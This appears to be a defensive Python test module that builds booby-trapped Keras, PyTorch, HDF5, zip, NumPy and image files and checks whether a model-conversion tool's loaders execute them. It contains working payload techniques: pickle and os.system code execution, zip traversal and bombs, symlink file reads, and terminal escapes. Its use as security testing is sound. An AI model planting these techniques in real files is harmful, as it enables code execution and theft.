"""Files that attack whoever loads them: as a user would hand them in, and again where no list has stopped them.

What each tries: write ``target``, read ``secret``, connect to ``port``. Inotify sees whether the secret was opened, or
anything near it changed.
"""

from __future__ import annotations

import base64
import contextlib
import ctypes
import io
import json
import marshal
import os
import pickle
import re
import shutil
import socket
import stat
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import psutil

from campaign import loading, mutation
from campaign.loading import Bench, Ended
from edgekit import api
from edgekit.errors import EdgekitError
from edgekit.jobs.workers import Confined, Workers
from edgekit.sources.source import resolve

Members = dict[str, bytes]


@dataclass(frozen=True)
class Place:
    """Where an attack is made, and what it is after."""

    originals: Path
    folder: Path
    target: Path
    secret: Path
    port: int

    @property
    def code(self) -> str:
        """Python that writes and connects, as one expression."""
        connect = f"__import__('socket').create_connection(('127.0.0.1', {self.port}), 2)"
        return f"(open({str(self.target)!r}, 'w').write('owned'), {connect})"

    @property
    def shell(self) -> str:
        return f"echo owned > {self.target}"

    @property
    def lambda_(self) -> dict[str, Any]:
        """A lambda as Keras writes it."""
        made = eval(f"lambda x: ({self.code}, x)[1]")  # its bytecode is what the file holds
        text = base64.b64encode(marshal.dumps(made.__code__)).decode()
        return {"class_name": "__lambda__", "config": {"code": text, "defaults": None, "closure": None}}

    @property
    def layer(self) -> dict[str, Any]:
        """A layer that calls it."""
        settings = {"name": "l", "function": self.lambda_, "arguments": {}, "output_shape": [4], "dtype": "float32"}
        return {"module": "keras.layers", "class_name": "Lambda", "config": settings, "registered_name": None}


Make = Callable[[Place], Path]


@dataclass(frozen=True)
class Attack:
    """A file: what makes it, and the kind of child that loads it where no check has looked at it (none: no model)."""

    name: str
    make: Make
    environment: str = ""
    inputs: tuple[str, ...] = ()
    options: dict[str, Any] = field(default_factory=dict)


# --- Keras -----------------------------------------------------------------------------------------------------------


def _members(path: Path) -> Members:
    return dict(mutation.members(path.read_bytes()))


def _keras(name: str, edit: Callable[[Place, dict[str, Any], Members], object]) -> Attack:
    def make(place: Place) -> Path:
        members = _members(place.originals / "good.keras")
        config = json.loads(members["config.json"])
        edited = edit(place, config, members)
        members["config.json"] = (edited if isinstance(edited, str) else json.dumps(config)).encode()
        path = place.folder / f"{name}.keras"
        path.write_bytes(mutation.zipped(list(members.items())))
        return path

    return Attack(name, make, "keras-tensorflow")


def _head(config: dict[str, Any]) -> dict[str, Any]:
    [found] = [layer for layer in config["config"]["layers"] if layer["class_name"] == "Dense"]
    return found


def _as_head(config: dict[str, Any], layer: dict[str, Any], **changes: Any) -> None:
    """Put another layer in the place of the last one."""
    head = _head(config)
    settings = {**layer["config"], "name": head["config"]["name"]}
    head |= {**layer, "config": settings, **changes}


def _setting(**values: Callable[[Place], Any]) -> Callable[[Place, dict[str, Any], Members], object]:
    return lambda place, config, members: _head(config)["config"].update({k: f(place) for k, f in values.items()})


def _function(module: str, name: str) -> dict[str, Any]:
    return {"class_name": "function", "module": module, "config": name, "registered_name": name}


def _weights(change: Callable[[Place, Any], None]) -> Callable[[Place, dict[str, Any], Members], object]:
    def edit(place: Place, config: dict[str, Any], members: Members) -> None:
        import h5py

        path = place.folder / "weights.h5"
        path.write_bytes(members["model.weights.h5"])
        with h5py.File(path, "r+") as file:
            change(place, file)
        members["model.weights.h5"] = path.read_bytes()

    return edit


def _kernel(file: Any) -> tuple[Any, str]:
    """The group and name of the last layer's kernel."""
    group = file["layers/dense/vars"]
    return group, "0"


def _replaced(make: Callable[[Place, Any, str, Any], object]) -> Callable[[Place, Any], None]:
    def change(place: Place, file: Any) -> None:
        group, name = _kernel(file)
        shape = group[name].shape
        del group[name]
        make(place, group, name, shape)

    return change


def _virtual(place: Place, group: Any, name: str, shape: Any) -> None:
    import h5py

    layout = h5py.VirtualLayout(shape, "float32")
    layout[...] = h5py.VirtualSource(str(place.secret), "w", shape, dtype="float32")
    group.create_virtual_dataset(name, layout)


def _external(place: Place, group: Any, name: str, shape: Any) -> None:
    import h5py

    group[name] = h5py.ExternalLink(str(place.secret), "/w")


def _sharded(place: Place, config: dict[str, Any], members: Members) -> None:
    """Weights in several files, whose names an index tells."""
    members.pop("model.weights.h5")
    index = {"metadata": {"total_size": 1}, "weight_map": {"/layers/dense/vars": [f"../../../../../..{place.secret}"]}}
    members["model.weights.json"] = json.dumps(index).encode()


def _npz_weights(place: Place, config: dict[str, Any], members: Members) -> None:
    import numpy as np

    made = io.BytesIO()
    np.savez(made, **{"layers/dense/vars": np.array([_Pickled(place.shell)], dtype=object)})
    members.pop("model.weights.h5")
    members["model.weights.npz"] = made.getvalue()


class _Pickled:
    def __init__(self, shell: str) -> None:
        self.shell = shell

    def __reduce__(self) -> Any:
        return os.system, (self.shell,)


def _twice(place: Place, config: dict[str, Any], members: Members) -> str:
    """A key that is there twice: the first class computes, the last one is code."""
    text = json.dumps(config)
    layer = json.dumps(place.layer["config"])
    return text.replace(
        '"class_name": "Dense", "config": {',
        f'"class_name": "Dense", "class_name": "Lambda", "config": {layer}, "was": {{',
    )


def _time_distributed(place: Place, config: dict[str, Any], members: Members) -> None:
    _as_head(config, {"module": "keras.layers", "class_name": "TimeDistributed", "config": {"layer": place.layer}})


def _lookup(name: str) -> Callable[[Place, dict[str, Any], Members], object]:
    def edit(place: Place, config: dict[str, Any], members: Members) -> None:
        settings = {"vocabulary": str(place.secret), "max_tokens": None}
        _as_head(config, {"module": "keras.layers", "class_name": name, "config": settings})

    return edit


KERAS = [
    _keras("lambda-registered-as-dense", lambda p, c, m: _as_head(c, p.layer, registered_name="Dense")),
    _keras("dense-registered-as-lambda", lambda p, c, m: _as_head(c, p.layer, class_name="Dense", registered_name="Lambda")),
    _keras("lambda-by-its-own-module", lambda p, c, m: _as_head(c, p.layer, module="keras.src.layers.core.lambda_layer")),
    _keras("lambda-as-activation", _setting(activation=lambda p: p.lambda_)),
    _keras("lambda-in-a-regularizer", _setting(kernel_regularizer=lambda p: {"class_name": "L2", "module": "keras.regularizers", "config": {"l2": p.lambda_}})),
    _keras("lambda-in-build-config", lambda p, c, m: _head(c).update(build_config={"input_shape": [None, 4], "x": p.layer})),
    _keras("lambda-in-compile-config", lambda p, c, m: c.update(compile_config={"optimizer": "adam", "loss": p.lambda_, "metrics": [p.layer]})),
    _keras("lambda-inside-of-a-layer", _time_distributed),
    _keras("class-named-twice", _twice),
    _keras("os-system-as-activation", _setting(activation=lambda p: _function("os", "system"))),
    _keras("exec-as-activation", _setting(activation=lambda p: _function("builtins", "exec"))),
    _keras("func-load-as-initializer", _setting(kernel_initializer=lambda p: {"module": "keras.src.utils.python_utils", "class_name": "func_load", "config": {"code": p.lambda_["config"]["code"]}})),
    _keras("get-file-as-initializer", _setting(kernel_initializer=lambda p: {"module": "keras.utils", "class_name": "get_file", "config": {"fname": str(p.target), "origin": f"http://127.0.0.1:{p.port}/x"}})),
    _keras("get-file-by-string", _setting(activation=lambda p: "keras.utils.get_file", bias_initializer=lambda p: "get_file")),
    _keras("dtype-of-a-module", _setting(dtype=lambda p: {"module": "os", "class_name": "system", "config": {"command": p.shell}, "registered_name": None})),
    _keras("popen-as-a-class", _setting(bias_initializer=lambda p: {"module": "subprocess", "class_name": "Popen", "config": {"args": ["/bin/sh", "-c", p.shell]}, "registered_name": None})),
    _keras("vocabulary-of-a-string-lookup", _lookup("StringLookup")),
    _keras("vocabulary-of-a-text-vectorization", _lookup("TextVectorization")),
    _keras("saved-model-layer", lambda p, c, m: _as_head(c, {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": str(p.secret.parent), "call_endpoint": "serve"}})),
    _keras("torch-module-layer", lambda p, c, m: _as_head(c, {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"module": base64.b64encode(pickle.dumps(_Pickled(p.shell))).decode()}})),
    _keras("weights-external-link", _weights(_replaced(_external))),
    _keras("weights-virtual-dataset", _weights(_replaced(_virtual))),
    _keras("weights-raw-file", _weights(_replaced(lambda p, g, n, s: g.create_dataset(n, s, "float32", external=[(str(p.secret), 0, 64)])))),
    _keras("weights-cycle", _weights(lambda p, f: f["layers"].__setitem__("loop", f["/"]))),
    _keras("weights-npz-pickled", _npz_weights),
    _keras("weights-sharded-outside", _sharded),
]  # fmt: skip


def _h5(name: str, edit: Callable[[Place, dict[str, Any], Any], object], original: str = "good_2.h5") -> Attack:
    def make(place: Place) -> Path:
        import h5py

        path = Path(shutil.copy(place.originals / original, place.folder / f"{name}.h5"))
        with h5py.File(path, "r+") as file:
            config = json.loads(file.attrs["model_config"])
            edit(place, config, file)
            file.attrs["model_config"] = json.dumps(config)
        return path

    return Attack(name, make, "tf-keras" if original == "good_2.h5" else "keras-tensorflow")


def _old_lambda(place: Place, config: dict[str, Any], file: Any) -> None:
    code = place.lambda_["config"]["code"]
    settings = {
        "name": "head",
        "function": [code + "\n", None, None],
        "function_type": "lambda",
        "module": "x",
        "arguments": {},
        "output_shape": None,
        "output_shape_type": "raw",
        "output_shape_module": None,
    }
    _head(config).update({"class_name": "Lambda", "config": settings})


def _operator(function: str, **arguments: Callable[[Place], Any]) -> Callable[[Place, dict[str, Any], Any], object]:
    def edit(place: Place, config: dict[str, Any], file: Any) -> None:
        head = _head(config)
        nodes = [[*head["inbound_nodes"][0][0][:3], {k: f(place) for k, f in arguments.items()}]]
        head |= {"class_name": "TFOpLambda", "config": {"name": "head", "function": function}, "inbound_nodes": nodes}

    return edit


H5 = [
    _h5("old-lambda", _old_lambda),
    _h5("old-lambda-in-training-config", lambda p, c, f: f.attrs.__setitem__("training_config", json.dumps({"loss": p.lambda_, "optimizer_config": p.layer}))),
    _h5("old-operator-io", _operator("io.write_file", contents=lambda p: "owned")),
    _h5("old-operator-numpy-function", _operator("numpy_function", func=lambda p: p.shell, Tout=lambda p: "float32")),
    _h5("old-activation-by-module", lambda p, c, f: _head(c)["config"].update(activation="tf_keras.utils.get_file")),
    _h5("h5-lambda-of-keras-3", lambda p, c, f: _as_head(c, p.layer), "good.h5"),
    _h5("h5-external-weights", lambda p, c, f: _external(p, f["model_weights"], "more", ()), "good.h5"),
]  # fmt: skip


# --- SavedModels -----------------------------------------------------------------------------------------------------


def _saved(name: str, change: Callable[[Place, Path], object]) -> Attack:
    def make(place: Place) -> Path:
        path = Path(shutil.copytree(place.originals / "saved_model", place.folder / name))
        change(place, path)
        return path

    return Attack(name, make, "keras-tensorflow")


def _linked(member: str) -> Callable[[Place, Path], object]:
    def change(place: Place, path: Path) -> None:
        [file] = path.glob(member) if "*" in member else [path / member]
        file.parent.mkdir(exist_ok=True)
        file.unlink(missing_ok=True)
        file.symlink_to(place.secret)

    return change


TENSORFLOW = ("loop", "branch", "save", "merge", "list", "region", "remap", "lines", "log", "summary")
SAVED = [
    *[Attack(f"sm_{name}", lambda p, name=name: p.folder / f"sm_{name}", "keras-tensorflow") for name in TENSORFLOW],
    _saved("sm-linked-weights", _linked("variables/variables.data*")),
    _saved("sm-linked-asset", _linked("assets/vocabulary.txt")),
    _saved(
        "sm-graph-as-text", lambda p, path: (path / "saved_model.pbtxt").write_text("saved_model_schema_version: 1")
    ),
    _saved("sm-graph-in-pieces", lambda p, path: (path / "saved_model.cpb").write_bytes(b"riegeli")),
]


# --- PyTorch ---------------------------------------------------------------------------------------------------------


def _script(name: str, body: str = "", *, edit: Callable[[Place, Members], object] | None = None) -> Attack:
    """TorchScript whose ``forward`` begins with ``body``."""

    def make(place: Place) -> Path:
        members = _members(place.originals / "good.pt")
        [code] = [member for member in members if member.endswith("container.py")]
        line = body.replace("TARGET", str(place.target)).replace("SECRET", str(place.secret))
        text = members[code].decode()
        start = re.search(r"-> Tensor:\n", text)
        assert start
        text = text[: start.end()] + (f"    {line}\n" if line else "") + text[start.end() :]
        members[code] = text.encode()
        members = {key: data for key, data in members.items() if not key.endswith(".debug_pkl")}
        if edit:
            edit(place, members)
        path = place.folder / f"{name}.pt"
        path.write_bytes(mutation.zipped(list(members.items())))
        return path

    return Attack(name, make, "torch", ("x=1x3x8x8",))


def _root(members: Members) -> str:
    return next(iter(members)).partition("/")[0]


def _evil(place: Place) -> bytes:
    return pickle.dumps(_Pickled(place.shell), 2)


SCRIPTS = [
    _script("ts-save", '_s = torch.save(input, "TARGET")'),
    _script("ts-save-by-its-namespace", '_s = ops.aten.save(input, "TARGET")'),
    _script("ts-from-file", 'input = torch.add(input, ops.aten.from_file("SECRET", False, 1, dtype=0))'),
    _script("ts-from-file-shared", 'input = torch.add(input, torch.from_file("TARGET", True, 2))'),
    _script("ts-namespace-handed-on", "_s = ops.aten"),
    _script("ts-save-in-a-string-that-ends-early", '_s = "a\\\\"; _t = torch.save(input, "TARGET")'),
    _script("ts-rpc", '_s = rpc_async("w", input)'),
    _script("ts-class-of-cpp", "_s = __torch__.torch.classes.quantized.Conv2dPackedParamsBase()"),
    _script("ts-pickled-data", edit=lambda p, m: m.update({f"{_root(m)}/data.pkl": _evil(p)})),
    _script("ts-pickled-constants", edit=lambda p, m: m.update({f"{_root(m)}/constants.pkl": _evil(p)})),
    _script("ts-pickled-debug", edit=lambda p, m: m.update({f"{_root(m)}/code/__torch__/x.py.debug_pkl": _evil(p)})),
]


def _program(name: str, edit: Callable[[Place, dict[str, Any], Members], object]) -> Attack:
    def make(place: Place) -> Path:
        members = _members(place.originals / "good.pt2")
        model = f"{_root(members)}/models/model.json"
        document = json.loads(members[model])
        edit(place, document, members)
        members[model] = json.dumps(document).encode()
        path = place.folder / f"{name}.pt2"
        path.write_bytes(mutation.zipped(list(members.items())))
        return path

    return Attack(name, make, "torch")


def _everywhere(document: Any, key: str, value: Any) -> None:
    todo = [document]
    while todo:
        found = todo.pop()
        if isinstance(found, dict):
            if key in found:
                found[key] = value
            todo += found.values()
        elif isinstance(found, list):
            todo += found


def _nodes(document: dict[str, Any]) -> list[Any]:
    return document["graph_module"]["graph"]["nodes"]


def _calls_file(place: Place, document: dict[str, Any], members: Members) -> None:
    arguments = [
        {"name": "filename", "arg": {"as_string": str(place.secret)}, "kind": 1},
        {"name": "shared", "arg": {"as_bool": False}, "kind": 1},
        {"name": "size", "arg": {"as_int": 1}, "kind": 1},
    ]
    first = _nodes(document)[0]
    output = [{"as_tensor": {"name": "stolen"}}]
    new = {**first, "target": "torch.ops.aten.from_file.default", "inputs": arguments, "outputs": output}
    _nodes(document).insert(0, new)
    graph = document["graph_module"]["graph"]
    graph["tensor_values"]["stolen"] = next(iter(graph["tensor_values"].values()))


def _payloads(document: Any, members: Members, **changes: Any) -> None:
    [config] = [name for name in members if name.endswith("model_weights_config.json")]
    found = json.loads(members[config])
    for entry in found["config"].values():
        entry |= changes
    members[config] = json.dumps(found).encode()


def _pickled_weights(place: Place, document: dict[str, Any], members: Members) -> None:
    _payloads(document, members, use_pickle=True, path_name="weight_0")
    members[f"{_root(members)}/data/weights/weight_0"] = _evil(place)


PROGRAMS = [
    _program("pt2-size", lambda p, d, m: _everywhere(d, "expr_str", f"Symbol('s0') + {p.code}[0]")),
    _program("pt2-size-through-sympify", lambda p, d, m: _everywhere(d, "expr_str", f"sympify(\"{p.code}\")")),
    _program("pt2-range-of-an-expression", lambda p, d, m: d.update(range_constraints={p.code: {"min_val": 1, "max_val": 9}})),
    _program("pt2-guard", lambda p, d, m: d.update(guards_code=[f"L['input'].size()[0] > 0 and {p.code}"])),
    _program("pt2-reads-a-file", _calls_file),
    _program("pt2-calls-os", lambda p, d, m: _nodes(d)[0].update(target="os.system")),
    _program("pt2-calls-a-library", lambda p, d, m: _nodes(d)[0].update(target="torch.ops.load_library")),
    _program("pt2-container", lambda p, d, m: _everywhere(d, "in_spec", json.dumps([1, {"type": "os.system", "context": json.dumps(p.shell), "children_spec": []}]))),
    _program("pt2-name-with-code", lambda p, d, m: _everywhere(d, "name", f"x\n    {p.code}\n    y")),
    _program("pt2-pickled-weights", _pickled_weights),
    _program("pt2-weights-outside", lambda p, d, m: _payloads(d, m, path_name=f"../../../../..{p.secret}")),
    _program("pt2-pickled-inputs", lambda p, d, m: m.update({f"{_root(m)}/data/sample_inputs/model.pt": mutation.zipped([("m/data.pkl", _evil(p)), ("m/version", b"3\n")])})),
    _program("pt2-compiled", lambda p, d, m: m.update({f"{_root(m)}/data/aotinductor/model/model.so": b"\x7fELF"})),
]  # fmt: skip


# --- Zips ------------------------------------------------------------------------------------------------------------


def _zip(name: str, change: Callable[[Place, bytes], bytes], original: str = "good.keras") -> Attack:
    def make(place: Place) -> Path:
        path = place.folder / f"{name}{Path(original).suffix}"
        path.write_bytes(change(place, (place.originals / original).read_bytes()))
        return path

    environment = {".keras": "keras-tensorflow", ".pt2": "torch", ".npz": ""}[Path(original).suffix]
    return Attack(name, make, environment)


def _evil_config(place: Place, data: bytes) -> bytes:
    members = dict(mutation.members(data))
    config = json.loads(members["config.json"])
    _as_head(config, place.layer)
    return json.dumps(config).encode()


def _two_of_one_name(place: Place, data: bytes) -> bytes:
    found = mutation.members(data)
    return mutation.zipped([*found, ("config.json", _evil_config(place, data))])


def _another_local_name(place: Place, data: bytes) -> bytes:
    """The directory names the good one; the header before the bytes, which other readers take, the evil one."""
    members = mutation.members(data)
    made = mutation.zipped([("config.jsoN", _evil_config(place, data)), *members])
    return made.replace(b"config.jsoN", b"config.json", 1)


def _overlapping(place: Place, data: bytes) -> bytes:
    """Hundreds of members that share the bytes of one, as in a bomb without nesting."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as opened:
        for name, content in mutation.members(data):
            opened.writestr(name, content)
        opened.writestr("big", bytes(50 << 20))
        [big] = [info for info in opened.infolist() if info.filename == "big"]
        for number in range(500):
            copy = zipfile.ZipInfo(f"big{number}")
            for key in ("CRC", "compress_size", "file_size", "header_offset", "compress_type", "flag_bits"):
                setattr(copy, key, getattr(big, key))
            opened.filelist.append(copy)
            opened.NameToInfo[copy.filename] = copy
        opened._didModify = True  # type: ignore[attr-defined]
    return made.getvalue()


def _bomb(place: Place, data: bytes) -> bytes:
    """A member of gigabytes of zeros, its sizes honest."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as opened:
        for name, content in mutation.members(data):
            opened.writestr(name, content)
        with opened.open(_bomb_name(data), "w", force_zip64=True) as big:
            for _ in range(300):
                big.write(bytes(1 << 20))
    return made.getvalue()


def _bomb_name(data: bytes) -> str:
    names = [name for name, _ in mutation.members(data)]
    return (
        f"{names[0].partition('/')[0]}/extra/big"
        if "/" in names[0]
        else "z.npy"
        if names[0].endswith(".npy")
        else "assets/big"
    )


def _lying_bomb(place: Place, data: bytes) -> bytes:
    """The same, where directory and headers say that it is small."""
    made, size = bytearray(_bomb(place, data)), 300 << 20
    packed = struct.pack("<I", size)
    at = made.rfind(packed)
    while at >= 0:
        made[at : at + 4] = struct.pack("<I", 1000)
        at = made.rfind(packed)
    return bytes(made)


def _zip64(place: Place, data: bytes) -> bytes:
    """An end of the directory that says to be of the large kind, whose numbers lead elsewhere."""
    end = data.rfind(b"PK\x05\x06")
    record = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, 1 << 40, 1 << 40, 1 << 50, 1 << 60)
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, end, 1)
    return data[:end] + record + locator + data[end : end + 8] + b"\xff" * 12 + data[end + 20 :]


def _link_member(place: Place, data: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as opened:
        for name, content in mutation.members(data):
            opened.writestr(name, content)
        link = zipfile.ZipInfo("assets/vocabulary.txt")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        opened.writestr(link, str(place.secret))
    return made.getvalue()


ZIPS = [
    _zip("zip-member-twice", _two_of_one_name),
    _zip("zip-another-name-in-the-header", _another_local_name),
    _zip("zip-overlapping", _overlapping),
    _zip("zip-large-kind", _zip64),
    _zip("zip-link", _link_member),
    _zip(
        "zip-traversal", lambda p, d: mutation.zipped([*mutation.members(d), (f"../../../../..{p.target}", b"owned")])
    ),
    _zip("zip-absolute", lambda p, d: mutation.zipped([*mutation.members(d), (str(p.target), b"owned")])),
    _zip("zip-behind-another", lambda p, d: mutation.zipped([("config.json", _evil_config(p, d))]) + d),
    _zip("zip-bomb-keras", _bomb),
    _zip("zip-lying-bomb-keras", _lying_bomb),
    _zip("zip-bomb-pt2", _bomb, "good.pt2"),
    _zip("zip-lying-bomb-pt2", _lying_bomb, "good.pt2"),
    _zip("zip-bomb-npz", _bomb, "good.npz"),
    _zip("zip-lying-bomb-npz", _lying_bomb, "good.npz"),
]


# --- Data and artifacts ----------------------------------------------------------------------------------------------


def _npz(name: str, change: Callable[[Place, Any], dict[str, Any]]) -> Attack:
    def make(place: Place) -> Path:
        import numpy as np

        path = place.folder / f"{name}.npz"
        np.savez(path, **change(place, np))  # type: ignore[arg-type]
        return path

    return Attack(name, make)


def _records(place: Place, np: Any) -> dict[str, Any]:
    kind = np.dtype([("a", "O"), ("b", "f4")])
    return {"x": np.array([(_Pickled(place.shell), 1.0)] * 40, kind)}


def _images(name: str, change: Callable[[Place, Path], object]) -> Attack:
    def make(place: Place) -> Path:
        path = Path(shutil.copytree(place.originals / "images", place.folder / name))
        change(place, path)
        return path

    return Attack(name, make)


def _coco(place: Place, path: Path) -> None:
    document = {
        "images": [{"id": 1, "file_name": f"../../../../..{place.secret}"}],
        "annotations": [],
        "categories": [{"id": 1, "name": "a"}],
    }
    (path / "objects.json").write_text(json.dumps(document))


def _huge_png(place: Place, path: Path) -> None:
    """An image whose header says a billion pixels."""
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 32767, 32767, 8, 2, 0, 0, 0)
    body = zlib.compress(bytes(32767 * 3 + 1) * 64, 9)
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    (path / "a" / "huge.png").write_bytes(png)


ESCAPES = "\x1b]0;owned\x07\x1b[2J\u202e[bold red]x[/]"
DATA = [
    _npz("npz-pickled", lambda p, np: {"x": np.array([_Pickled(p.shell)] * 40, object)}),
    _npz("npz-pickled-labels", lambda p, np: {"x": np.zeros((40, 3, 8, 8), "float32"), "y": np.array([_Pickled(p.shell)] * 40, object)}),
    _npz("npz-records-of-objects", _records),
    _npz("npz-names-with-escapes", lambda p, np: {ESCAPES: np.zeros((40, 3, 8, 8), "float32")}),
    _images("images-coco-outside", _coco),
    _images("images-huge", _huge_png),
    _images("images-pipe", lambda p, path: os.mkfifo(path / "a" / "9.png")),
    _images("images-names-with-escapes", lambda p, path: (path / "a").rename(path / ESCAPES.replace("/", ""))),
]  # fmt: skip


def _artifact(name: str, change: Callable[[Place, Path, dict[str, Any]], object]) -> Attack:
    def make(place: Place) -> Path:
        import hashlib

        from campaign.mutants import ARTIFACT

        path = Path(shutil.copytree(ARTIFACT, place.folder / name))
        document = json.loads((path / "manifest.json").read_text())
        change(place, path, document)
        (path / "manifest.json").write_text(json.dumps(document))
        digest = hashlib.sha256((path / "manifest.json").read_bytes()).hexdigest()
        (path / "manifest.sha256").write_text(f"{digest}  manifest.json\n")
        return path

    return Attack(name, make)


def _resealed(path: Path, document: dict[str, Any], member: str) -> None:
    from edgekit.artifact.contents import list_files

    [file] = list_files({member: path / member})
    document["files"] = [f for f in document["files"] if f["path"] != member] + [file.model_dump()]


def _pickled_golden(place: Place, path: Path, document: dict[str, Any]) -> None:
    import numpy as np

    np.savez(path / "golden.npz", **{"in/x": np.array([_Pickled(place.shell)], object)})
    _resealed(path, document, "golden.npz")


def _outside(place: Place, path: Path, document: dict[str, Any]) -> None:
    for part in document["parts"].values():
        part["file"] = f"../../../../../../..{place.secret}"
    document["files"].append({"path": document["parts"]["model"]["file"], "sha256": "0" * 64, "bytes": 1})


def _outside_weights(place: Place, path: Path, document: dict[str, Any]) -> None:
    """An ONNX file whose weights lie in a file elsewhere."""
    import onnx

    model = onnx.load(path / "model.onnx", load_external_data=False)
    tensor = model.graph.initializer[0]
    tensor.ClearField("raw_data")
    tensor.data_location = onnx.TensorProto.EXTERNAL
    entry = tensor.external_data.add()
    entry.key, entry.value = "location", os.path.relpath(place.secret, path)
    (path / "model.onnx").write_bytes(model.SerializeToString())
    _resealed(path, document, "model.onnx")


ARTIFACTS = [
    _artifact("artifact-pickled-golden", _pickled_golden),
    _artifact("artifact-part-outside", _outside),
    _artifact("artifact-weights-outside", _outside_weights),
    _artifact("artifact-link", lambda p, path, d: (path / "more").symlink_to(p.secret)),
    _artifact("artifact-escapes", lambda p, path, d: d.update(status="FAIL_PARITY", reason=ESCAPES, target=ESCAPES)),
]

ATTACKS = [*KERAS, *H5, *SAVED, *SCRIPTS, *PROGRAMS, *ZIPS, *DATA, *ARTIFACTS]


# --- Trying them -----------------------------------------------------------------------------------------------------

_OPENED, _CHANGED = 0x20 | 0x1, 0x2 | 0x4 | 0x40 | 0x80 | 0x100 | 0x200 | 0x400


@contextmanager
def _watched(place: Place) -> Iterator[Callable[[], list[str]]]:
    """Who opens the secret, changes it, or makes anything beside it."""
    library = ctypes.CDLL(None)
    descriptor = library.inotify_init1(os.O_NONBLOCK)
    library.inotify_add_watch(descriptor, os.fsencode(place.secret), _OPENED | _CHANGED)
    library.inotify_add_watch(descriptor, os.fsencode(place.secret.parent), _CHANGED)

    def seen() -> list[str]:
        try:
            data = os.read(descriptor, 1 << 16)
        except BlockingIOError:
            return []
        masks = 0
        at = 0
        while at < len(data):
            _, mask, _, length = struct.unpack_from("iIII", data, at)
            masks |= mask
            at += 16 + length
        return (["opened the secret"] if masks & _OPENED else []) + (
            ["changed it, or its folder"] if masks & _CHANGED else []
        )

    try:
        yield seen
    finally:
        os.close(descriptor)


def _normally(bench: Bench, attack: Attack, path: Path) -> Ended:
    if attack in DATA or path.suffix == ".npz":
        return bench.samples(path)
    if attack in ARTIFACTS:
        from edgekit.artifact import folder as artifacts

        verified = loading.attempt(lambda: artifacts.verify(path, bench.workers))
        looked = loading.attempt(lambda: api.inspect(path))
        return max(verified, looked, key=lambda ended: bool(ended.fault))
    return bench.load(path)


def _unchecked(workers: Workers, source: dict[str, Any], attack: Attack, home: Path | None, out: Path) -> str:
    """Load and run a model that nothing has looked at, in a child that is confined where it has a home; returns what was said."""
    out.mkdir(parents=True)
    arguments = {"folder": out, "source": source, "environment": attack.environment}
    confined = Confined("attacks", home, 1 << 30) if home else None
    try:
        workers.call(attack.environment, "campaign.originals:load_and_run", arguments, confined=confined)
    except EdgekitError as error:
        return str(error) or type(error).__name__
    return "loaded"


def rows(originals: Path, scratch: Path, wanted: list[str]) -> Iterator[dict[str, Any]]:
    """One row per attack: how it ended as a user hands it in, and unchecked; what it did, which should be nothing.

    ``would`` is what it does in a child that is not confined, where no check looks at it: whether it is an attack at
    all on the versions that are installed. Those that do nothing there rest on what other versions do.
    """
    outside = scratch / "outside"
    outside.mkdir()
    (outside / "secret").write_text("CANARY-7f3a\n" * 4)
    files = scratch / "files"
    files.mkdir()
    bench = Bench()
    bench.scratch = files
    with loading.own_steps(), socket.socket() as listening:
        listening.bind(("127.0.0.1", 0))
        listening.listen()
        listening.setblocking(False)
        place = Place(originals, files, outside / "owned", outside / "secret", listening.getsockname()[1])
        chosen = [attack for attack in ATTACKS if not wanted or attack.name in wanted]
        if any(attack in SAVED for attack in chosen):
            with loading.own_steps(), Workers() as workers:
                arguments = {
                    "folder": str(files),
                    "target": str(place.target),
                    "secret": str(place.secret),
                    "port": place.port,
                }
                workers.call("keras-tensorflow", "campaign.hostile_tensorflow:make", arguments)
        try:
            for attack in chosen:
                path = attack.make(place)
                with _watched(place) as seen:
                    did = seen()
                    normally = _normally(bench, attack, path)
                    did += seen() + _traces(place, listening, normally.said)
                    said, would = "", []
                    if attack.environment:
                        out = scratch / f"out {attack.name}"
                        source = {**resolve(str(path), inputs=attack.inputs, trust=True).to_json(), "path": path}
                        seen()  # the hash of a link that the user trusts is that of what it leads to
                        said = _unchecked(bench.workers, source, attack, bench.home, out / "confined")
                        did += seen() + _traces(place, listening, said)
                        free = _unchecked(bench.workers, source, attack, None, out / "free")
                        would = seen() + _traces(place, listening, free)
                yield {
                    "part": "hostile", "name": attack.name, "exit": normally.code, "said": normally.said[:160],
                    "fault": normally.fault, "unchecked": said[:160], "did": did, "would": would, "seconds": normally.seconds,
                }  # fmt: skip
        finally:
            bench.close()
    yield _printed(files)
    left = [process for process in psutil.process_iter() if _of(process, bench.home)]
    yield {"part": "hostile", "n": len(chosen), "processes_left": len(left)}


def _printed(folder: Path) -> dict[str, Any]:
    """What a terminal gets of a file whose name moves the cursor."""
    from campaign.mutants import ROOT

    path = folder / f"{ESCAPES.replace('/', '')}.keras"
    path.write_bytes(b"PK")
    environment = {**os.environ, "PYTHONPATH": str(ROOT), "EDGEKIT_HOME": str(folder / "home")}
    command = [sys.executable, "-m", "edgekit", "convert", str(path), "--target", "onnxruntime-fp32"]
    done = subprocess.run(command, env=environment, cwd=folder, capture_output=True)
    escaped = not any(byte in done.stdout + done.stderr for byte in (b"\x1b", b"\x07", "\u202e".encode()))
    did = [] if escaped else ["moved the cursor"]
    return {"part": "hostile", "name": "file-name-with-escapes", "exit": done.returncode, "did": did}


def _traces(place: Place, listening: socket.socket, said: str) -> list[str]:
    found = []
    if place.target.exists():
        found.append("wrote the target")
        shutil.rmtree(place.target) if place.target.is_dir() else place.target.unlink()
    with contextlib.suppress(BlockingIOError):
        while True:
            listening.accept()[0].close()
            found.append("connected")
    return [*found, "told the secret"] if "CANARY" in said else found


